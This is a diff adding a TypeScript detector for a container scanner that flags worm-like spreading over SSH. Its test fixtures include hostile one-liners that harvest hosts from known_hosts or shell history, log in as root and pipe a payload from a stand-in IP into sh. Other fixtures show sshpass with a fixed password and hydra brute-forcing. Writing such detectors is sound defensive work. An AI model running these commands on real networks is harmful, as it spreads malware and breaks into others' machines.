@@ -1,0 +1,176 @@
+import type { LoginEffect } from '../trace/effect.ts';
+import type { Command } from '../trace/story.ts';
+import { render, textOf } from '../trace/value.ts';
+import { isDeclaredScanner } from './declared.ts';
+import type { Detector, Scene } from './detector.ts';
+import { effectsOf } from './effects-of.ts';
+import { payloadOf } from './payload.ts';
+import type { Threat } from './severity.ts';
+import { findingOf, type Sighting, sightingOf } from './sighting.ts';
+import { clip, valueWords } from './wording.ts';
+
+/** Spreading to other machines by logging in to them. */
+export const remoteSpread: Detector = {
+  id: 'remote-spread',
+  version: 1,
+  title: 'Spreads to other machines by logging in to them.',
+  attack: ['T1021.004', 'T1110', 'T1570'],
+  description: `
+A worm takes the keys it finds, looks up in \`known_hosts\` and the shell history where they fit, and starts itself there; or it
+goes through a list of passwords. *Malicious* when the machines come from such places, or when a payload is started on machines
+that are only known while running. *Suspicious* for guessing passwords (hydra, \`sshpass\` with a fixed password over a list), a
+*note* in an image that calls itself a tool for that. Logging in to one's own machines by name, or to those the user lists, is
+nothing.
+`,
+  fires: [
+    {
+      name: 'keys tried on known hosts',
+      image: {
+        cmd: [
+          'sh',
+          '-c',
+          'for h in $(cut -d" " -f1 ~/.ssh/known_hosts | sort -u); do ssh -oBatchMode=yes -oStrictHostKeyChecking=no root@$h "curl -s http://203.0.113.4/x.sh | sh"; done',
+        ],
+      },
+    },
+    {
+      name: 'hosts out of the history',
+      image: {
+        cmd: [
+          'bash',
+          '-c',
+          'cat ~/.bash_history | grep -oE "ssh [a-z]+@[0-9.]+" | while read -r _ t; do scp /tmp/w $t:/tmp/w; ssh $t /tmp/w & done',
+        ],
+      },
+    },
+    {
+      name: 'a fixed password and a payload, over a list',
+      image: {
+        cmd: [
+          'sh',
+          '-c',
+          'while read ip; do sshpass -p admin ssh -o StrictHostKeyChecking=no root@$ip "wget -qO- http://203.0.113.4/x|sh"; done < /ips',
+        ],
+      },
+    },
+    {
+      name: 'guessing',
+      severity: 'suspicious',
+      image: { cmd: ['hydra', '-L', '/u', '-P', '/p', 'ssh://198.51.100.0/24'] },
+    },
+    {
+      name: 'a fixed password over a list',
+      severity: 'suspicious',
+      image: { cmd: ['sh', '-c', 'while read ip; do sshpass -p admin ssh root@$ip id; done < /ips'] },
+    },
+  ],
+  silent: [
+    {
+      name: 'one’s own machines',
+      image: { cmd: ['sh', '-c', 'for h in $HOSTS; do ssh deploy@$h "systemctl restart app"; done'] },
+    },
+    {
+      name: 'a password that the user gives',
+      image: {
+        cmd: ['sh', '-c', 'sshpass -p "$PASSWORD" ssh $USER@$HOST "df -h"; sshpass -e scp /out/x $USER@$HOST:/srv/'],
+      },
+    },
+    {
+      name: 'making a host known',
+      image: {
+        cmd: [
+          'sh',
+          '-c',
+          'grep -q "$HOST" ~/.ssh/known_hosts || ssh-keyscan $HOST >> ~/.ssh/known_hosts; ssh $HOST uptime',
+        ],
+      },
+    },
+    {
+      name: 'a declared tool',
+      severity: 'note',
+      image: { name: 'docker.io/someones/pentest:1', cmd: ['hydra', '-l', 'root', '-P', '/p', 'ssh://198.51.100.7'] },
+    },
+  ],
+  detect(scene) {
+    const declared = isDeclaredScanner(scene);
+    return effectsOf(scene, 'login').flatMap((effect) => {
+      const sighting = sightingOf(scene, effect);
+      const judged = judge(scene, effect, sighting, declared);
+      if (!judged) return [];
+      return findingOf(scene, sighting, {
+        threat: judged.threat,
+        title:
+          effect.how === 'guess'
+            ? `Guesses passwords of ${valueWords(effect.to, 80) || 'other machines'} with ${effect.tool}`
+            : `Logs in to ${valueWords(effect.to, 80)} and runs ${effect.carries ? `“${clip(render(effect.carries), 80)}”` : 'commands'} there`,
+        because: judged.because,
+        effects: [effect.id],
+        encodingDeceives: !declared,
+      });
+    });
+  },
+};
+
+function judge(
+  scene: Scene,
+  effect: LoginEffect,
+  sighting: Sighting,
+  declared: boolean,
+): { readonly threat: Threat; readonly because: string } | undefined {
+  if (effect.how === 'guess') {
+    return {
+      threat: declared ? 'minor' : 'dual-use',
+      because: 'Going through passwords is how machines of others are entered.',
+    };
+  }
+  if (textOf(effect.to) !== undefined) return undefined;
+  const harvest = harvestedFrom(scene, effect, sighting);
+  if (harvest) return { threat: 'hostile', because: `The machines come out of ${harvest}.` };
+  if (isNamedByUser(effect)) return undefined;
+  const nested = scene.story.stages.find(
+    (stage) => stage.parent === effect.stage && stage.outside?.startsWith('ssh ') === true,
+  );
+  const payload = payloadOf(scene, nested?.id);
+  const fixed = effect.how === 'password' && hasFixedPassword(sighting.command);
+  if (payload && (payload.worst === 'hostile' || fixed))
+    return { threat: 'hostile', because: `It runs ${payload.what} on machines that it only learns while running.` };
+  return fixed ? { threat: 'dual-use', because: 'It tries one fixed password on a list of machines.' } : undefined;
+}
+
+/** Where the names of the machines were taken from, when that is nobody's list of own machines. */
+function harvestedFrom(scene: Scene, effect: LoginEffect, sighting: Sighting): string | undefined {
+  const own = `${render(effect.to)} ${(sighting.command?.redirects ?? []).map(({ target }) => render(target)).join(' ')}`;
+  const direct = places.find(([mark]) => own.includes(mark));
+  if (direct) return direct[1];
+  for (const command of scene.story.commands) {
+    if (command.stage !== effect.stage || !extractors.has(command.name)) continue;
+    const words = command.argv.slice(1).map(render);
+    if (command.name === 'grep' && !words.some((word) => /^-[a-zA-Z]*[oE]/.test(word))) continue;
+    const place = places.find(([mark]) => words.some((word) => word.includes(mark)));
+    if (place) return place[1];
+  }
+  return undefined;
+}
+
+const extractors = new Set(['awk', 'cut', 'sed', 'cat', 'grep', 'egrep', 'sort', 'tr', 'strings', 'gawk', 'mawk']);
+const places: readonly (readonly [string, string])[] = [
+  ['known_hosts', 'the list of known hosts'],
+  ['_history', 'the shell history'],
+  ['$(arp', 'the neighbours on the network'],
+  ['$(ip neigh', 'the neighbours on the network'],
+  ['$(last', 'the list of logins'],
+  ['$(masscan', 'a sweep of the network'],
+];
+
+/** `$HOST`, `$REMOTE_HOST`: a variable in capitals that the code does not set is the user's. */
+function isNamedByUser(effect: LoginEffect): boolean {
+  const holes = effect.to.filter((part) => typeof part !== 'string');
+  return holes.every((part) => typeof part !== 'string' && /^\$\{?[A-Z][A-Z0-9_]{2,60}\}?$/.test(part.hole));
+}
+
+/** `sshpass -p word ssh …`: a password that stands in the code. */
+function hasFixedPassword(command: Command | undefined): boolean {
+  if (!command?.via.includes('sshpass')) return false;
+  const word = /sshpass\s{1,4}-p\s{0,4}["']?([^\s"']{1,100})/.exec(command.text)?.[1];
+  return word !== undefined && !word.includes('$') && !word.includes('`');
+}
